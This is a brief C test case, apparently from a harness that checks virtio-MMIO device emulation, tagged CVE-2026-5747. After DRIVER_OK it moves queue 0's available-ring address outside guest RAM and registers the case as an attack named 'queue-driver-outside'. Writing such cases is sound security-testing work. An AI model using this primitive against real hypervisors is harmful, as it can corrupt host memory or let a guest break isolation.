/*
 * CVE-2026-5747, address rewrite: after DRIVER_OK, queue 0's available ring is moved outside
 * guest RAM.
 */
#include "attack.h"

static void rewrite(void)
{
    vio_write(DEV, VIRTIO_MMIO_QUEUE_SEL, 0);
    write64(VIRTIO_MMIO_QUEUE_DRIVER_LOW, OUTSIDE_RAM);
}

int main(void)
{
    return register_attack("queue-driver-outside", rewrite);
}
